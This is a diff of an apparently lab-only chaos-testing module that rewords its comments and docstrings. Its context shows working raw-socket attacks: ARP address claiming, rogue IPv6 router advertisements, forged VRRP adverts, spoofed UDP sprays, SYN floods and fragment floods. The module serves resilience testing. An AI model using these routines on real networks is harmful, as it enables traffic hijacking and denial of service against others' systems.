@@ -1,7 +1,7 @@
-"""What a hostile or broken neighbour puts on the wire: forged frames and floods.
+"""Sends what a hostile or broken neighbour would send: forged frames and floods.
 
-Run as `python -m natpair_lab.chaos.programs.attack WHAT …` inside a lab host; one JSON line says how many packets went
-out. Real attackers need no more than a raw socket either.
+Run as `python -m natpair_lab.chaos.programs.attack WHAT …` inside a lab host. One JSON line says how many packets were
+sent. A raw socket is all that a real attacker needs, too.
 """
 
 from __future__ import annotations
@@ -18,11 +18,11 @@ from collections.abc import Callable, Iterator
 
 from natpair.core import packets
 
-_RANDOM = random.Random(7)  # noqa: S311 - the same attack every time
+_RANDOM = random.Random(7)  # noqa: S311 - the same packets in every run
 
 
 def ip_packet(source: str, target: str, protocol: int, payload: bytes, *, ttl: int = 64, fragment: int = 0) -> bytes:
-    """An IPv4 packet with an identification of its own."""
+    """An IPv4 packet with its own identification."""
     ident = _RANDOM.randrange(65536)
     return packets.ipv4(source, target, protocol, payload, ttl=ttl, identification=ident, fragment=fragment)
 
@@ -34,7 +34,7 @@ def tcp_syn(source: str, target: str, sport: int, dport: int) -> bytes:
 
 
 def router_advertisement(mac: bytes) -> bytes:
-    """A frame to all nodes: the way to everywhere is here, for half an hour, before all others (RFC 4861, RFC 4191)."""
+    """A router advertisement to all nodes: a default route of high preference for 30 minutes (RFC 4861, RFC 4191)."""
     source = ipaddress.IPv6Address("fe80::bad").packed
     target = ipaddress.IPv6Address("ff02::1").packed
     body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0x08, 1800, 0, 0) + struct.pack("!BB", 1, 1) + mac
@@ -46,25 +46,25 @@ def router_advertisement(mac: bytes) -> bytes:
 
 def own_mac(interface: str) -> bytes:
     """The hardware address of an interface."""
-    with open(f"/sys/class/net/{interface}/address") as file:  # noqa: PTH123 - no pathlib under -S is no gain
+    with open(f"/sys/class/net/{interface}/address") as file:  # noqa: PTH123 - pathlib costs start time under -S
         return packets.mac_bytes(file.read().strip())
 
 
 def raw_ip() -> Callable[[bytes, str], None]:
-    """A sender of whole IPv4 packets."""
+    """A socket that sends whole IPv4 packets."""
     link = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
 
     def send(packet: bytes, target: str) -> None:
         try:
             link.sendto(packet, (target, 0))
-        except OSError:  # a full queue drops, as a wire would
+        except OSError:  # a full queue drops packets, as a wire would
             return
 
     return send
 
 
 def paced(total: int, rate: float) -> Iterator[int]:
-    """Numbers from 0 to `total`, `rate` a second."""
+    """Numbers from 0 to `total`, at `rate` per second."""
     start = time.monotonic()
     for number in range(total):
         yield number
@@ -73,7 +73,7 @@ def paced(total: int, rate: float) -> Iterator[int]:
 
 
 def garp(options: argparse.Namespace) -> int:
-    """Claim an address with our own hardware address."""
+    """Claim an address by gratuitous ARP with our own hardware address."""
     link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     link.bind((options.interface, packets.ETH_ARP))
     mac = own_mac(options.interface)
@@ -84,7 +84,7 @@ def garp(options: argparse.Namespace) -> int:
 
 
 def routers(options: argparse.Namespace) -> int:
-    """Say that we are the IPv6 router."""
+    """Announce ourselves as the IPv6 router."""
     link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     link.bind((options.interface, packets.ETH_IPV6))
     for _ in paced(options.count, options.rate):
@@ -93,7 +93,7 @@ def routers(options: argparse.Namespace) -> int:
 
 
 def adverts(options: argparse.Namespace) -> int:
-    """VRRP advertisements in another's name."""
+    """Send VRRP advertisements with another node's source address."""
     send = raw_ip()
     for _ in paced(options.count, options.rate):
         body = packets.vrrp(options.source, options.target, options.router_id, options.priority, options.vip, 10)
@@ -102,7 +102,7 @@ def adverts(options: argparse.Namespace) -> int:
 
 
 def spray(options: argparse.Namespace) -> int:
-    """UDP packets, each of another flow, the sources in turn: ports of the target first, then our own."""
+    """Send UDP packets, each of a new flow, from the sources in turn. The target's port changes first, then our own."""
     send = raw_ip()
     sources = options.source.split(",")
     for number in paced(options.count, options.rate):
@@ -124,7 +124,7 @@ def syns(options: argparse.Namespace) -> int:
 
 
 def fragments(options: argparse.Namespace) -> int:
-    """First fragments whose rest never comes."""
+    """Send first fragments and never the rest of their datagrams."""
     send = raw_ip()
     for _ in paced(options.count, options.rate):
         body = packets.udp(_RANDOM.randrange(1024, 65536), 9, b"x" * 64)
@@ -133,7 +133,7 @@ def fragments(options: argparse.Namespace) -> int:
 
 
 def garbage(options: argparse.Namespace) -> int:
-    """UDP datagrams of random bytes to one port, in another's name."""
+    """Send UDP datagrams of random bytes to one port, with another host's source address."""
     send = raw_ip()
     for _ in paced(options.count, options.rate):
         noise = _RANDOM.randbytes(_RANDOM.randrange(1, 600))
@@ -156,14 +156,14 @@ ATTACKS = {
 
 
 def main() -> None:
-    """Do one attack to its end."""
+    """Run one attack to its end."""
     parser = argparse.ArgumentParser(description=__doc__)
     parser.add_argument("what", choices=tuple(ATTACKS))
     parser.add_argument("--interface", default="eth0")
     parser.add_argument("--source", required=True)
     parser.add_argument("--target", default="255.255.255.255")
     parser.add_argument("--port", type=int, default=0)
-    parser.add_argument("--vip", default="0.0.0.0")  # noqa: S104 - a field of a packet, no listener
+    parser.add_argument("--vip", default="0.0.0.0")  # noqa: S104 - a field of a packet, not a listener
     parser.add_argument("--router-id", type=int, default=51)
     parser.add_argument("--priority", type=int, default=100)
     parser.add_argument("--count", type=int, default=1)
